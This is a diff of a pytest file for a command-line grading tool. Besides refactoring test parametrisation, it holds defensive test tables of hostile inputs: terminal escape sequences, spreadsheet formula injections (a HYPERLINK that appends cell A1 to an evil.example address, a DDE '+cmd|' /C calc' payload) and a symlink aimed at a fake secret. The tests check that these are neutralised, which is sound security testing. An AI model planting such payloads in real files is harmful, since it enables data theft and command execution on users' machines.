@@ -39,13 +39,22 @@ def _raw_controls(text: str) -> list[str]:
     return [ch for ch in ESCAPES if ch in text]
 
 
+def cases(table: list[tuple]) -> list:
+    """The rows of a catalogue as test cases, each named by its first cell."""
+    return [pytest.param(*row[1:], id=row[0]) for row in table]
+
+
 # --- the shared helpers ---------------------------------------------------------------
 
 VISIBLE = [
     ("plain text", "Ada Lovelace", "Ada Lovelace"),
     ("clipboard write (OSC 52)", "\x1b]52;c;ZXZpbA==\x07", "␛]52;c;ZXZpbA==␇"),
     ("window title (OSC 0)", "\x1b]0;pwned\x07", "␛]0;pwned␇"),
-    ("hyperlink (OSC 8)", "\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\", "␛]8;;http://evil␛\\x␛]8;;␛\\"),
+    (
+        "hyperlink (OSC 8)",
+        "\x1b]8;;http://evil\x1b\\x\x1b]8;;\x1b\\",
+        "␛]8;;http://evil␛\\x␛]8;;␛\\",
+    ),
     ("newline forging a row", "x\nAda  7 of 7", "x␊Ada  7 of 7"),
     ("carriage return", "ok\rEve", "ok␍Eve"),
     ("NUL and DEL", "a\x00b\x7f", "a␀b␡"),
@@ -57,7 +66,7 @@ VISIBLE = [
 ]
 
 
-@pytest.mark.parametrize(("text", "shown"), [c[1:] for c in VISIBLE], ids=[c[0] for c in VISIBLE])
+@pytest.mark.parametrize(("text", "shown"), cases(VISIBLE))
 def test_visible(text, shown):
     assert visible(text) == shown
     assert visible(shown) == shown  # already visible: left as it is
@@ -79,7 +88,7 @@ SPREADSHEET = [
 ]
 
 
-@pytest.mark.parametrize(("cell", "safe"), [c[1:] for c in SPREADSHEET], ids=[c[0] for c in SPREADSHEET])
+@pytest.mark.parametrize(("cell", "safe"), cases(SPREADSHEET))
 def test_spreadsheet_cell(cell, safe):
     assert spreadsheet_cell(cell) == safe
     if "\t" not in cell and "\r" not in cell:
@@ -95,7 +104,7 @@ MARKDOWN_CODE = [
 ]
 
 
-@pytest.mark.parametrize(("text", "span"), [c[1:] for c in MARKDOWN_CODE], ids=[c[0] for c in MARKDOWN_CODE])
+@pytest.mark.parametrize(("text", "span"), cases(MARKDOWN_CODE))
 def test_markdown_code(text, span):
     assert markdown_code(text) == span
 
@@ -111,19 +120,32 @@ def test_json_text_escapes_what_a_terminal_would_act_on():
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 INJECTIONS = [
     ("text sheet: Student line", "a.txt", f"Student: {FORMULA}\nc = 3\n", FORMULA),
-    ("JSON: student field", "b.json", json.dumps({"student": "+cmd|' /C calc'!A0", "c": 3}), "+cmd ' /C calc'!A0"),
+    (
+        "JSON: student field",
+        "b.json",
+        json.dumps({"student": "+cmd|' /C calc'!A0", "c": 3}),
+        "+cmd ' /C calc'!A0",
+    ),
     ("file name", "@SUM(1+1)*cmd.json", '{"c": 3}', "@SUM(1+1)*cmd"),
     ("CSV sheet: # student line", "d.csv", "# student: -2+3+cmd\nnode,value\nc,3\n", "-2+3+cmd"),
-    ("Markdown sheet: Student line", "e.md", "Student: =1+2\n\n| node | value |\n| --- | --- |\n| c | 3 |\n", "=1+2"),
-    ("LaTeX sheet: Student line", "f.tex", "% Student: @cmd\n\\begin{tabular}{ll}\nnode & value \\\\\nc & 3 \\\\\n\\end{tabular}\n", "@cmd"),
+    (
+        "Markdown sheet: Student line",
+        "e.md",
+        "Student: =1+2\n\n| node | value |\n| --- | --- |\n| c | 3 |\n",
+        "=1+2",
+    ),
+    (
+        "LaTeX sheet: Student line",
+        "f.tex",
+        "% Student: @cmd\n\\begin{tabular}{ll}\nnode & value \\\\\nc & 3 \\\\\n\\end{tabular}\n",
+        "@cmd",
+    ),
     ("JSON: a key that is no node", "g.json", '{"c": 3, "=cmd()": 1}', "g"),
     ("a tab first", "h.json", json.dumps({"student": "\t=1+1", "c": 3}), "=1+1"),
 ]
 
 
-@pytest.mark.parametrize(
-    ("name", "content", "student"), [c[1:] for c in INJECTIONS], ids=[c[0] for c in INJECTIONS]
-)
+@pytest.mark.parametrize(("name", "content", "student"), cases(INJECTIONS))
 def test_no_formula_reaches_a_gradebook_cell(cg, tmp_path, name, content, student):
     """Every cell starting = + - @, a tab or a carriage return gets a leading ' (OWASP)."""
     folder = tmp_path / "s"
@@ -225,9 +247,7 @@ ECHOED = [
 ]
 
 
-@pytest.mark.parametrize(
-    ("args", "sheet", "code", "stderr"), [c[1:] for c in ECHOED], ids=[c[0] for c in ECHOED]
-)
+@pytest.mark.parametrize(("args", "sheet", "code", "stderr"), cases(ECHOED))
 def test_every_echoed_name_is_visible(cg, tmp_path, args, sheet, code, stderr):
     if sheet is not None:
         name, content = sheet
@@ -311,7 +331,7 @@ SKIPPED_LINK = "a symbolic link: cg does not follow links to answer sheets in a 
 SKIPPED_SPECIAL = "not a regular file (a folder, a named pipe or a device): it is not read"
 
 
-@pytest.mark.parametrize(("name", "target", "why"), [c[1:] for c in LINKED], ids=[c[0] for c in LINKED])
+@pytest.mark.parametrize(("name", "target", "why"), cases(LINKED))
 def test_a_link_in_a_class_is_skipped_with_a_note(cg, tmp_path, name, target, why):
     (tmp_path / "secret.txt").write_text("c = AKIA-SECRET-TOKEN-123\n")
     folder = tmp_path / "s"
@@ -381,7 +401,7 @@ SPECIAL_SHEETS = [
 ]
 
 
-@pytest.mark.parametrize(("name", "stderr"), [c[1:] for c in SPECIAL_SHEETS], ids=[c[0] for c in SPECIAL_SHEETS])
+@pytest.mark.parametrize(("name", "stderr"), cases(SPECIAL_SHEETS))
 def test_a_sheet_that_is_no_sheet(cg, tmp_path, name, stderr):
     path = tmp_path / name if not name.startswith("/") else Path(name)
     if name == "fifo":
@@ -395,6 +415,7 @@ def test_a_sheet_that_is_no_sheet(cg, tmp_path, name, stderr):
 
 
 # --- 5. Markdown cannot carry live HTML ----------------------------------------------
+
 
 def test_a_program_comment_cannot_end_the_code_span_of_a_markdown_sheet(cg):
     from markdown_it import MarkdownIt
@@ -426,7 +447,7 @@ OVER_INPUTS = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("args", "message"), [c[1:] for c in OVER_INPUTS], ids=[c[0] for c in OVER_INPUTS])
+@pytest.mark.parametrize(("args", "message"), cases(OVER_INPUTS))
 def test_an_output_over_an_input_is_refused(cg, tmp_path, args, message):
     o = tmp_path / "o"
     o.mkdir()
@@ -465,11 +486,15 @@ def test_an_earlier_gradebook_in_the_folder_is_replaced_not_graded(cg, tmp_path)
     (folder / "alice.txt").write_text("c = 3\n")
     for _ in range(2):
         result = cg("check", P, *AT, "--answers", str(folder), "--summary", str(folder / "g.csv"))
-        assert (result.exit_code, result.stdout.splitlines()[-1]) == (0, "1 sheets graded, 1 all right")
+        assert (result.exit_code, result.stdout.splitlines()[-1]) == (
+            0,
+            "1 sheets graded, 1 all right",
+        )
     assert (folder / "g.csv").read_text().splitlines()[1].startswith("alice,")
 
 
 # --- 8. two writers, one output: the first wins whole, the other says so --------------
+
 
 def test_a_file_written_meanwhile_is_not_replaced(tmp_path):
     from cgcli.core.errors import CgError
@@ -480,10 +505,9 @@ def test_a_file_written_meanwhile_is_not_replaced(tmp_path):
         if existed:
             target.write_text("old\n")
         check_writable(str(target), "-o")  # the run starts
-        with pytest.raises(CgError) as caught:
-            with written_whole(str(target), "-o") as out:
-                out.write(b"mine\n")
-                target.write_text("theirs, whole\n")  # another run finishes first
+        with pytest.raises(CgError) as caught, written_whole(str(target), "-o") as out:
+            out.write(b"mine\n")
+            target.write_text("theirs, whole\n")  # another run finishes first
         assert caught.value.exit_code == 2
         assert caught.value.message == (
             f"-o {target}: another program wrote this file while cg was working; it was left "
@@ -600,7 +624,7 @@ def _wait_for(predicate, what: str, limit: float = 120.0) -> None:
 
 
 @pytest.mark.parametrize("out", OUTPUTS)
-@pytest.mark.parametrize(("signum", "code", "stderr"), [s[1:] for s in SIGNALS], ids=[s[0] for s in SIGNALS])
+@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
 def test_a_signal_during_an_output_file(tmp_path, out, signum, code, stderr):
     """cg reads the points from a pipe that stays open: it has written the first rows and
     waits for more when the signal comes, whatever the speed of the machine."""
@@ -616,7 +640,7 @@ def test_a_signal_during_an_output_file(tmp_path, out, signum, code, stderr):
     run.stdin.close()
 
 
-@pytest.mark.parametrize(("signum", "code", "stderr"), [s[1:] for s in SIGNALS], ids=[s[0] for s in SIGNALS])
+@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
 def test_a_signal_while_a_class_is_graded(tmp_path, signum, code, stderr):
     """Grading waits on a stalling formula (a SymPy worker) when the signal comes."""
     folder = tmp_path / "class"
@@ -631,7 +655,7 @@ def test_a_signal_while_a_class_is_graded(tmp_path, signum, code, stderr):
     assert sorted(p.name for p in tmp_path.iterdir()) == ["class"]
 
 
-@pytest.mark.parametrize(("signum", "code", "stderr"), [s[1:] for s in SIGNALS], ids=[s[0] for s in SIGNALS])
+@pytest.mark.parametrize(("signum", "code", "stderr"), cases(SIGNALS))
 def test_a_signal_during_a_dask_run(tmp_path, signum, code, stderr):
     """Once a worker is writing a partition: one line, and no folder, file or process left.
     (Should the run finish first, its result must then be whole.)"""
@@ -655,6 +679,7 @@ def test_a_signal_during_a_dask_run(tmp_path, signum, code, stderr):
 
 # --- 10. --exact within a budget ------------------------------------------------------
 
+
 def test_exact_arithmetic_that_would_not_finish(cg):
     result = cg("eval", "(1+1/10^9)^(10^9)", "--exact", "--exact-timeout", "1", "--no-check")
     assert (result.exit_code, result.stdout) == (2, "")
@@ -664,14 +689,17 @@ def test_exact_arithmetic_that_would_not_finish(cg):
         "SECONDS, or leave out --exact\n"
     )
     result = cg("explain", "(1+1/10^9)^(10^9)", "--exact", "--exact-timeout", "1")
-    assert (result.exit_code, result.stderr.split(":")[:3]) == (2, ["cg", " usage error", " --exact"])
+    assert (result.exit_code, result.stderr.split(":")[:3]) == (
+        2,
+        ["cg", " usage error", " --exact"],
+    )
 
 
 def test_exact_timeout_in_the_library():
     import cgcli
     from cgcli.core.errors import UsageError
 
-    with pytest.raises(UsageError, match="did not finish within 0.5 s"):
+    with pytest.raises(UsageError, match=r"did not finish within 0\.5 s"):
         cgcli.evaluate("(1+1/10^9)^(10^9)", exact=True, exact_timeout=0.5, check=False)
     result = cgcli.evaluate("x/3", {"x": 1}, exact=True, exact_timeout=60)
     assert result.shown_value(result.graph.output, 6) == "1/3 ≈ 0.333333"
@@ -709,8 +737,10 @@ NOTHING = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("name", "content", "why"), [c[1:] for c in NOTHING], ids=[c[0] for c in NOTHING])
-def test_a_sheet_with_nothing_to_grade_is_said_alone_and_in_a_class(cg, tmp_path, name, content, why):
+@pytest.mark.parametrize(("name", "content", "why"), cases(NOTHING))
+def test_a_sheet_with_nothing_to_grade_is_said_alone_and_in_a_class(
+    cg, tmp_path, name, content, why
+):
     folder = tmp_path / "class"
     folder.mkdir()
     (folder / name).write_text(content)
@@ -721,9 +751,11 @@ def test_a_sheet_with_nothing_to_grade_is_said_alone_and_in_a_class(cg, tmp_path
     together = cg("check", P, *AT, "--answers", str(folder))
     assert together.exit_code == 2
     assert together.stderr == f"cg: usage error: {message}\n"
-    assert f"{folder / name}  not graded    {message}" in together.stdout.replace(
-        f"{folder / name}: ", ""
-    ) or message in together.stdout
+    assert (
+        f"{folder / name}  not graded    {message}"
+        in together.stdout.replace(f"{folder / name}: ", "")
+        or message in together.stdout
+    )
 
 
 SHEET_MISTAKES = [
@@ -734,7 +766,7 @@ SHEET_MISTAKES = [
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize(("name", "content", "code", "stderr"), [c[1:] for c in SHEET_MISTAKES], ids=[c[0] for c in SHEET_MISTAKES])
+@pytest.mark.parametrize(("name", "content", "code", "stderr"), cases(SHEET_MISTAKES))
 def test_a_sheet_never_graded_silently_wrong(cg, tmp_path, name, content, code, stderr):
     path = tmp_path / name
     path.write_text(content)
@@ -743,6 +775,7 @@ def test_a_sheet_never_graded_silently_wrong(cg, tmp_path, name, content, code, 
 
 
 # --- 14. the points reader's header --------------------------------------------------
+
 
 def test_a_header_line_over_16_mib_is_named_the_header(cg):
     result = cg("eval", "x*y", "--points", "-", input="x" * (17 * 1024 * 1024) + ",y\n1,2\n")
